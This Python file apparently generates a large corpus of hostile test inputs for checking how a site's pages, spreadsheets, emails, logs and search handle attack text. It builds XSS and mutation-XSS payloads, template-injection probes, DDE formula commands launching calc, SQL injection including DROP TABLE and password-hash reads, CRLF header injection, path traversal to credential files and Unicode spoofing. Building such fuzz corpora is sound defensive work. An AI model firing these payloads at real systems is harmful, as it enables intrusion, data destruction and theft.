"""More than ten thousand texts that attack a page, a table, a letter, a log or a search.

All come from grammars: a way out of where the text stands, something that would run, a spelling
of it. What runs calls `hit`, and what it makes carries the attribute `hit`, so that whoever looks
at a page can tell that an input became more than text.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import chain, product
from urllib.parse import quote

CALL = "hit(1)"
# {c} is the call, {s} what parts a name from what follows
CALLS = (
    "hit(1)", "hit`1`", "&#104;it(1)", "&#x68;&#105;t&lpar;1&rpar;", "\\u0068it(1)", "top['hit'](1)",
    "setTimeout('hit(1)')", "Function('hit(1)')()", "eval(atob('aGl0KDEp'))", "[1].map(hit)",
)  # fmt: skip
EXITS = (
    "", '">', "'>", "`>", "</textarea>", "</title>", "</style>", "</script>", "-->", "--!>", "]]>",
    "</p></div>", "</option></select>", "</noscript>", "</template>", "</bdi>", "</a>", "?>",
    "&quot;&gt;", "\\\">", "</svg>", "</math>", "*/", "//\n",
)  # fmt: skip
SEPARATORS = (" ", "/", "\t", "\n", "\f", "\r\n")
CARRIERS = (
    "<script{s}hit>{c}</script>", "<img{s}hit src=x onerror={c}>", "<svg{s}hit onload={c}>",
    "<body{s}hit onload={c}>", '<iframe{s}hit srcdoc="<script>parent.{c}</script>">',
    "<iframe{s}hit src=javascript:parent.{c}>", "<input{s}hit autofocus onfocus={c}>",
    "<details{s}hit open ontoggle={c}>", "<video{s}hit><source onerror={c}></video>",
    "<audio{s}hit src=x onerror={c}>", "<marquee{s}hit onstart={c}>",
    "<object{s}hit data=javascript:{c}>", "<embed{s}hit src=javascript:{c}>",
    "<form{s}hit action=javascript:{c}><button>x</button></form>",
    "<button{s}hit formaction=javascript:{c} autofocus onfocus={c}>x</button>",
    "<a{s}hit href=javascript:{c} autofocus tabindex=0 onfocus={c}>x</a>",
    "<math{s}hit><mi xlink:href=javascript:{c} onfocus={c} tabindex=0 autofocus>x</mi></math>",
    "<svg{s}hit><animate onbegin={c} attributeName=x dur=1s></svg>",
    "<svg{s}hit><set onbegin={c} attributeName=x></svg>",
    "<svg{s}hit><script>{c}</script></svg>", "<svg{s}hit><foreignObject><img src=x onerror={c}>",
    '<svg{s}hit><use href="data:image/svg+xml,<svg id=x onload={c}>#x">',
    "<link{s}hit rel=stylesheet href=//hit.example onerror={c}>",
    '<meta{s}hit http-equiv=refresh content="0;url=javascript:{c}">',
    "<base{s}hit href=//hit.example/>", "<style{s}hit onload={c}>@import'//hit.example'</style>",
    "<x-hit{s}hit tabindex=0 autofocus onfocus={c}>x</x-hit>",
    "<p{s}hit contenteditable autofocus onfocus={c}>x", "<select{s}hit autofocus onfocus={c}>",
    "<textarea{s}hit autofocus onfocus={c}>", "<keygen{s}hit autofocus onfocus={c}>",
    "<table{s}hit background=javascript:{c}>", "<isindex{s}hit type=image src=x onerror={c}>",
    "<template{s}hit shadowrootmode=open><img src=x onerror={c}></template>",
    "<dialog{s}hit open onclose={c}><form method=dialog>", "<div{s}hit style=width:1px onclick={c}>",
    "<img{s}hit src='x'onerror='{c}'>", "<img{s}hit src=\"x\"onerror=\"{c}\">",
    "<img{s}hit srcset=x onerror={c}//", "<<script{s}hit>{c}//<</script>", "<script{s}hit>{c}<!--",
    "<scr<script>ipt{s}hit>{c}</scr</script>ipt>", "<IMG{s}HIT SRC=x ONERROR={c}>",
    "<sVg{s}hIt OnLoAd={c}>", "\" autofocus onfocus={c} hit x=\"", "' autofocus onfocus={c} hit x='",
    "<b{s}hit onpointerover={c}>x</b>", "<video{s}hit poster=javascript:{c}//",
)  # fmt: skip
MUTATED = (
    '<noscript><p title="</noscript><img hit src=x onerror={c}>">',
    '<svg></p><style><a id="</style><img hit src=x onerror={c}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img hit src=x onerror={c}&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img hit src=x onerror={c}>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img hit src=x onerror={c}>">',
    '<svg><![CDATA[<img hit src=x onerror={c}>]]>', '<!--><img hit src=x onerror={c}>-->',
    '<!-- --!><img hit src=x onerror={c}>', '<![CDATA[><img hit src=x onerror={c}>]]>',
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml" hit="">{c}</x:script>',
    '<p id="</p><img hit src=x onerror={c}>', '<xmp><p title="</xmp><img hit src=x onerror={c}>">',
    '<title><p title="</title><img hit src=x onerror={c}>">', '<listing>&lt;img hit src=x onerror={c}&gt;</listing>',
    '<svg><style>&lt;img hit src=x onerror={c}&gt;</style></svg>', '<math><annotation-xml encoding="text/html"><img hit src=x onerror={c}>',
    '<svg><title><img hit src=x onerror={c}></title></svg>', '<a href="\x01java\nscript:{c}" hit>x</a>',
    '<ul><li><a href="https://x.example/" hit onclick="{c}">x</a><strong hit onfocus={c}>y</strong></li></ul>',
    '<a href="jav&#x09;ascript:{c}" hit>x</a>', '<a href="https://x.example/&quot; onfocus={c} hit=&quot;">x</a>',
    '<em title="`onmouseover={c}" hit>x</em>', '&lt;img hit src=x onerror={c}&gt;', '&amp;lt;script hit&amp;gt;{c}&amp;lt;/script&amp;gt;',
    '%3Cscript hit%3E{c}%3C/script%3E', '%253Cscript%2520hit%253E{c}%253C/script%253E', '\\x3cscript hit\\x3e{c}\\x3c/script\\x3e',
    '\\u003cscript hit\\u003e{c}\\u003c/script\\u003e', '+ADw-script hit+AD4-{c}+ADw-/script+AD4-', '＜script hit＞{c}＜/script＞',
    '‹script hit›{c}‹/script›', '\xc0\xbcscript hit\xc0\xbe{c}', '¼script hit¾{c}¼/script¾', '<\u017fcript hit>{c}</\u017fcript>',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={c} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg hit/oNloAd={c}//>\\x3e',
    '"-{c}-"', "'-{c}-'", '`${{{c}}}`', '\\"-{c}//', "\\'-{c}//", '</script><script hit>{c}</script>',
    '{{{{constructor.constructor("{c}")()}}}}', '<div v-html hit ng-app>{{{{{c}}}}}</div>', '[x](javascript:{c})', '![x](x"onerror="{c})',
    '<https://x.example/"onfocus="{c}>', '[[x|javascript:{c}]]', '<!DOCTYPE x [<!ENTITY e "{c}">]><x hit>&e;</x>',
)  # fmt: skip
SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\x01javascript:{c}", "java\tscript:{c}",
    "java\nscript:{c}", "java\r\nscript:{c}", "javascript&colon;{c}", "javascript&#58;{c}", "&#106;avascript:{c}",
    "javascript://x.example/%0a{c}", "javascript:/*--></script>*/{c}", "vbscript:{c}", "livescript:{c}",
    "data:text/html,<script hit>{c}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg hit onload={c}>", "data:,x", "blob:null/x", "file:///etc/passwd", "view-source:javascript:{c}",
    "feed:javascript:{c}", "\u200bjavascript:{c}", "ｊavascript:{c}", "//hit.example/{c}", "\\\\hit.example\\{c}",
    "https:javascript:{c}", "http://x.example@hit.example/", "https://hit.example%2f@x.example/", "/\\hit.example", "///hit.example",
)  # fmt: skip
HOLDERS = (
    "{u}", '<a href="{u}" hit>x</a>', "<a href='{u}' hit>x</a>", "<a href={u} hit>x</a>", "[x]({u})", "<{u}>",
    '<a href="  {u}" rel=opener hit><strong>x</strong></a>', "(xem {u})", '<img src="{u}" hit>', '<p><a href="{u}">x</a></p>',
)  # fmt: skip
TEMPLATES = (
    "{{{{1327*1009}}}}", "{{%print(1327*1009)%}}", "{{{{config}}}}", "{{{{self.__init__.__globals__}}}}", "${{1327*1009}}", "#{{1327*1009}}",
    "<%= 1327*1009 %>", "[[1327*1009]]", "@(1327*1009)", "%(x)s {x} {0}", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{{{cycler.__init__}}}}",
    "{{% raw %}}", "{{# hit #}}", "<#assign x=1327*1009>${{x}}", "*{{1327*1009}}", "~{{1327*1009}}", "{{{{request.application}}}}",
)  # fmt: skip
AROUND = (
    "{t}",
    "a{t}b",
    '"{t}"',
    "'{t}'",
    "<p>{t}</p>",
    "{t}{t}",
    " {t}\n",
    "%{t}",
    "\\{t}",
    "{t};",
    "({t})",
    "#{t}",
)
# C0, C1, DEL, then what turns, hides, joins or is no character
CONTROLS = "".join(map(chr, (*range(32), *range(127, 160))))
UNSEEN = (
    "\u00a0\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b"
    "\u202c\u202d\u202e\u202f\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\u206a\u206f\u2800\u3000"
    "\u3164\ufe0f\ufeff\uffa0\ufff9\ufffa\ufffb\ufffc\ufffd\ufffe\uffff\U000e0001\U000e0041\U000e007f\U0001d173"
)
HALVES = "\ud800\udbff\udc00\udfff"
HIDING = (
    "<scr{x}ipt hit>hit(1)</script>", "<{x}script hit>hit(1)</script>", "<img{x}hit src=x onerror=hit(1)>",
    "<img hit src=x on{x}error=hit(1)>", "java{x}script:hit(1)", "Sở{x} Tư pháp", "{x}=1+1", "điều{x}kiện {x}",
    "a{x}" * 40, "{x}", "tệp{x}fdp.exe", "x{x}\r\nBcc: hit@x.example",
)  # fmt: skip
LETTERS = str.maketrans("aeopcxyihkmBEHKMOPTX", "аеорсхуіһкмВЕНКМОРТХ")  # Cyrillic
AGENCIES = (
    "Sở Xây dựng",
    "Bộ Tư pháp",
    "Ủy ban nhân dân tỉnh",
    "Hội đồng nhân dân",
    "Công an tỉnh",
    "Sở Tài chính",
    "Chính phủ",
    "Quốc hội",
)
FORMULAE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//hit.example","x")', "=IMPORTXML(\"//hit.example\",\"//a\")",
    "=WEBSERVICE(\"//hit.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "=INDIRECT(\"A1\")", "=1/0", "＝1+1", "﹢1", "−1+1", "＠SUM(1)",
)  # fmt: skip
BEFORE = (
    "",
    "\t",
    "\r",
    "\n",
    " ",
    "'",
    '"',
    ",",
    ";",
    "\u00a0",
    "\ufeff",
    '","',
    '"\n',
    "|",
    "\x00",
    "%",
)
LINES = (
    "{e}Set-Cookie: hit=1", "{e}Location: //hit.example", "{e}{e}<script hit>hit(1)</script>", "{e}Bcc: hit@x.example", "{e}To: hit@x.example",
    "{e}Content-Type: text/html{e}{e}<b hit>", "{e}.{e}MAIL FROM:<hit@x.example>", "{e}2026-01-01 00:00:00 ERROR hit forged", "{e}BEGIN:VALARM{e}ACTION:AUDIO",
    "{e}X-Hit: 1", "{e}Subject: hit", "{e}--hit{e}Content-Disposition: attachment",
)  # fmt: skip
ENDS = (
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "%0a",
    "\u2028",
    "\u0085",
    "\x0b",
    "\x0c",
    "嘊嘍",
    "\\r\\n",
    "=?utf-8?q?=0D=0A?=",
)
ANSI = (
    "\x1b[31m",
    "\x1b[2J",
    "\x1b]0;hit\x07",
    "\x1b]8;;//hit.example\x1b\\x",
    "\x1b[1A\x1b[2K",
    "\x9b31m",
    "\x08" * 8,
    "\x1bP0;1|17/68\x1b\\",
    "\x1b[?1049h",
    "\x07",
)
SQL = (
    "' OR '1'='1", "'; DROP TABLE comment; --", "1 UNION SELECT 1327*1009--", "%' OR title LIKE '%", "\\' OR 1=1 --", "pg_sleep(9)", "1;SELECT pg_sleep(9)",
    "' || (SELECT password_hash FROM officer) || '", "(SELECT 1 FROM officer)", "1/**/OR/**/1=1", "0x27", "\"; DELETE FROM entry; --", "$$x$$", "CASE WHEN 1=1 THEN 1 END", "id,(SELECT 1)", "id DESC",
)  # fmt: skip
SEARCH = (
    '"', "'", ":", "*", "&", "|", "!", "(", ")", "<->", "<2>", "~", "^2", "\\", "[a TO z]", "{1 TO 9}", "AND", "OR", "NOT", "-", "+", "title:", "body:*", "?", "/.*/", "$", "%", "_", "::text", "&&&",
)  # fmt: skip
PATHS = (
    "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//x", "..%2f..%2fx", "%2e%2e/x", "..%252fx", "x/../../x", "file:///etc/passwd",
    "\\\\hit.example\\c$", "~root/.ssh/id_rsa", ".htaccess", "..", ".", "/", "x\x00.pdf", "x.pdf\x00.exe", "x;.pdf", "x::$DATA",
)  # fmt: skip
DEVICES = ("CON", "PRN", "AUX", "NUL", "COM1", "COM9", "LPT1", "CONIN$", "CLOCK$", "KEYBD$")
ENDINGS = (
    "",
    ".docx",
    ".pdf",
    ".PDF.exe",
    ".html",
    ".svg",
    ".pdf ",
    ".pdf.",
    ".docx\u202efdp.",
    ".php",
    ".lnk",
    ".\u200bpdf",
)
FAMILY = "👨‍👩‍👧‍👦🏳️‍🌈🇻🇳👍🏽"


@dataclass(frozen=True)
class Input:
    """A text and what it tries."""

    kind: str
    text: str


def _filled(form: str, call: str) -> str:
    return form.replace("{{", "{").replace("}}", "}").replace("{c}", call).replace("{s}", " ")


def _markup() -> Iterator[str]:
    """Every exit with every carrier; separators and spellings of the call take turns."""
    ways = [*product(SEPARATORS, CALLS)]
    for n, (way_out, carrier) in enumerate(product(EXITS, CARRIERS)):
        for k in range(4):
            parted, call = ways[(n * 7 + k * 17) % len(ways)]
            yield way_out + carrier.replace("{c}", call).replace("{s}", parted)


def _mutated() -> Iterator[str]:
    for form, call, way_out in product(MUTATED, CALLS, ("", '">', "</textarea>")):
        yield way_out + _filled(form, call)


def _addresses() -> Iterator[str]:
    for scheme, holder, call in product(SCHEMES, HOLDERS, CALLS[:4]):
        yield holder.replace("{u}", scheme.replace("{c}", call))


def _unseen(characters: str) -> Iterator[str]:
    for character, form in product(characters, HIDING):
        yield form.replace("{x}", character)


def _forged() -> Iterator[str]:
    for agency in AGENCIES:
        apart = unicodedata.normalize("NFD", agency)
        yield from (
            agency,
            apart,
            agency.translate(LETTERS),
            apart.translate(LETTERS),
            agency.upper(),
        )
        yield from (
            f"{agency}\u200b",
            f"\u202e{agency[::-1]}",
            agency.replace("i", "l"),
            " ".join(agency),
        )
        yield from (f"{agency} {mark * n}" for mark in "\u0301\u0489\u20dd" for n in (8, 1000))
        yield from (f"{FAMILY * n}{agency}" for n in (1, 20))


def _long() -> Iterator[str]:
    for sign in "<>(\"[{'&`“:*-1a.,%=\u0301đ":
        yield sign * 300
        yield sign * 5_000
    for left, right in ("()", "[]", "{}", "<>", "“”", "«»"):
        yield left * 2_000 + right * 2_000
    yield from (
        "<b>" * 3_000,
        "<!--" * 3_000,
        "&#" * 3_000,
        "&amp" * 3_000,
        "a " * 5_000,
        "<a href=" * 2_000,
    )
    yield from ("x" * n + ".pdf" for n in (120, 255, 300, 4_000))


@cache
def inputs() -> tuple[Input, ...]:
    """Each text once, in an order that is always the same."""
    made: dict[str, Iterable[str]] = {
        "markup": _markup(),
        "mutated": _mutated(),
        "address": _addresses(),
        "template": (a.replace("{t}", _filled(t, CALL)) for t, a in product(TEMPLATES, AROUND)),
        "control": _unseen(CONTROLS),
        "unseen": _unseen(UNSEEN),
        "half": _unseen(HALVES),
        "forged": _forged(),
        "formula": map("".join, product(BEFORE, FORMULAE)),
        "line": (line.replace("{e}", end) for line, end in product(LINES, ENDS)),
        "ansi": (f"{a}{sign}{b}" for sign, a, b in product(ANSI, ("", "x", "\r\n"), ("", " y", "\x1b[0m"))),
        "sql": map("".join, product(("", "nước ", "1", "'", ")"), SQL)),
        "search": (f"{a}{mid}{b}" for a, b, mid in product(SEARCH, SEARCH, ("", "nước", " "))),
        "path": (way for path in PATHS for way in (path, quote(path, safe=""), f"a/{path}", f"{path}.docx")),
        "device": (f"{a}{device}{end}" for device, end, a in product(DEVICES, ENDINGS, ("", "x/"))),
        "long": _long(),
    }  # fmt: skip
    found: dict[str, Input] = {}
    for kind, texts in made.items():
        for text in texts:
            found.setdefault(text, Input(kind, text))
    return tuple(found.values())


def sendable(text: str) -> str:
    """The text as a form can carry it: halves of characters have no bytes."""
    return text.encode("utf-8", "replace").decode()


def every(step: int, kinds: Iterable[str] = ()) -> list[Input]:
    """One input of each so many of a kind: some of each kind, at least."""
    wanted = set(kinds)
    by_kind: dict[str, list[Input]] = {}
    for one in inputs():
        if not wanted or one.kind in wanted:
            by_kind.setdefault(one.kind, []).append(one)
    return [*chain.from_iterable(ones[::step] for ones in by_kind.values())]
